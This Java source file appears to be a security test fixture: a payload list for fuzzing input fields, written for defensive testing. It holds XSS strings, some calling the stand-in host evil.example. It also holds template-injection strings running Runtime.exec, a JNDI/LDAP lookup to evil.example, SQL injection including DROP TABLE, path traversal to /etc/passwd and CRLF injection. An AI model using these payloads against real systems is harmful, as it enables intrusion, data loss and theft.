package nl.naast.security;

import java.util.ArrayList;
import java.util.List;

/**
 * What an attacker, a confused person or a broken tool types into a field: script and
 * markup, attribute breakouts, javascript: addresses, template syntax, SQL, paths, line
 * breaks, very long and unusual text. Payloads that could turn into markup carry the
 * marker {@code naastxss}; template payloads would show {@code naast49zz} if evaluated;
 * line-break payloads start a fake log line with {@code FAKE-LOG naastcrlf}.
 */
final class Payloads {

	static final String MARKER = "naastxss";

	static final String EVALUATED = "naast49zz";

	static final String FAKE_LOG_LINE = "FAKE-LOG naastcrlf";

	private Payloads() {
	}

	static final List<String> XSS = List.of("<script>alert('naastxss')</script>",
			"<script src=//evil.example/naastxss.js></script>", "\"><script>alert('naastxss')</script>",
			"'><script>alert('naastxss')</script>", "</textarea><script>alert('naastxss')</script>",
			"</title><script>alert('naastxss')</script>", "<img src=x onerror=alert('naastxss')>",
			"<img src=\"x\" onerror=\"alert('naastxss')\">", "<svg onload=alert('naastxss')>",
			"<svg><script>alert('naastxss')</script></svg>",
			"<svg><a xlink:href=\"javascript:alert('naastxss')\"><text x=\"0\" y=\"20\">x</text></a></svg>",
			"<iframe src=\"javascript:alert('naastxss')\"></iframe>",
			"<a href=\"javascript:alert('naastxss')\">klik</a>", "javascript:alert('naastxss')",
			"JaVaScRiPt:alert('naastxss')", "\tjavascript:alert('naastxss')",
			"data:text/html;base64,PHNjcmlwdD5hbGVydCgnbmFhc3R4c3MnKTwvc2NyaXB0Pg==", "vbscript:msgbox('naastxss')",
			"\" onmouseover=\"alert('naastxss')", "' onfocus='alert(1)' autofocus='naastxss", "\" naastxss=\"1",
			"' naastxss='1", "\"><b class=naastxss>vet</b>", "<b class=naastxss>vet</b>",
			"<details open ontoggle=alert('naastxss')>", "<body onload=alert('naastxss')>",
			"<math><mtext></p><script>alert('naastxss')</script>", "<object data=\"javascript:alert('naastxss')\">",
			"<embed src=\"javascript:alert('naastxss')\">", "<base href=\"//evil.example/naastxss/\">",
			"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('naastxss')\">",
			"<form action=\"javascript:alert('naastxss')\"><button>x</button></form>",
			"<button formaction=\"javascript:alert('naastxss')\">x</button>",
			"<input autofocus onfocus=alert('naastxss')>", "<div hx-get=\"/logout\" hx-trigger=\"load\">naastxss</div>",
			"<style>*{background:url(javascript:alert('naastxss'))}</style>",
			"<link rel=stylesheet href=//evil.example/naastxss.css>", "&lt;script&gt;alert('naastxss')&lt;/script&gt;",
			"%3Cscript%3Ealert('naastxss')%3C/script%3E", "\\u003cscript\\u003ealert('naastxss')\\u003c/script\\u003e",
			"<scr<script>ipt>alert('naastxss')</script>", "<!--<script>alert('naastxss')//-->",
			"]]><script>alert('naastxss')</script>", "`-alert('naastxss')-`", "';alert('naastxss');//",
			"</script><script>alert('naastxss')</script>",
			"<noscript><p title=\"</noscript><img src=x onerror=alert('naastxss')>\">",
			"<template><script>alert('naastxss')</script></template>",
			"<a href=\"&#106;avascript:alert('naastxss')\">x</a>",
			"<svg><animate onbegin=alert('naastxss') attributeName=x dur=1s>");

	static final List<String> TEMPLATES = List.of("naast{{7*7}}zz", "naast${7*7}zz", "naast#{7*7}zz",
			"naast<%= 7*7 %>zz", "naast${{7*7}}zz", "naast[[${7*7}]]zz", "naast!{7*7}zz",
			"${T(java.lang.Runtime).getRuntime().exec('id')}", "${jndi:ldap://evil.example/a}", "{0} {1} '{' }",
			"%s%s%s%n%x");

	static final List<String> SQL = List.of("' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE account; --", "\" OR \"\"=\"",
			"1' UNION SELECT password FROM account --", "1; SELECT pg_sleep(5)", "') OR ('a'='a", "\\' OR 1=1 #",
			"%' OR '%'='", "1 AND 1=CONVERT(int,(SELECT @@version))");

	static final List<String> PATHS = List.of("../../../../etc/passwd", "..\\..\\..\\windows\\win.ini",
			"%2e%2e%2f%2e%2e%2fetc%2fpasswd", "....//....//etc/passwd", "/etc/passwd", "file:///etc/passwd",
			"..%00/etc/passwd");

	static final List<String> LINE_BREAKS = List.of("x\r\nSet-Cookie: naastcrlf=1", "x\r\n" + FAKE_LOG_LINE,
			"x\n" + FAKE_LOG_LINE, "x\r" + FAKE_LOG_LINE, "x%0d%0aSet-Cookie:naastcrlf=1", "x\u2028" + FAKE_LOG_LINE,
			"x\u0085" + FAKE_LOG_LINE);

	static final List<String> ODD = List.of("A".repeat(10_000), "é".repeat(5_000), "<script>".repeat(1_000),
			"x ".repeat(20_000), "1".repeat(400), "-1", "99999999999999999999", "NaN", "0x7fffffff", "1e309",
			"2019-02-30", "0000-00-00", "+99999-12-31", "Ölçü İstanbul ß ﬁ", "\u202Eevil\u202C",
			"\u200B\u200C\u200D\uFEFF", "👨‍👩‍👧‍👦", "x\uD800y", "Z̴̡̛a̷l̸g̶o̵", "x\u0000y", "\u0000",
			"\u0001\u0007\u001b[31m", "", "   \t  ", "مرحبا بالعائلة", "00000000-0000-0000-0000-000000000000");

	/** All payloads, about a hundred. */
	static List<String> all() {
		List<String> all = new ArrayList<>();
		all.addAll(XSS);
		all.addAll(TEMPLATES);
		all.addAll(SQL);
		all.addAll(PATHS);
		all.addAll(LINE_BREAKS);
		all.addAll(ODD);
		return all;
	}

	/** What a payload looks like in a message: short, on one line. */
	static String shown(String payload) {
		String oneLine = payload.replace("\r", "\\r").replace("\n", "\\n").replace("\u0000", "\\0");
		return oneLine.length() > 60 ? oneLine.substring(0, 60) + "…(" + payload.length() + ")" : oneLine;
	}

}
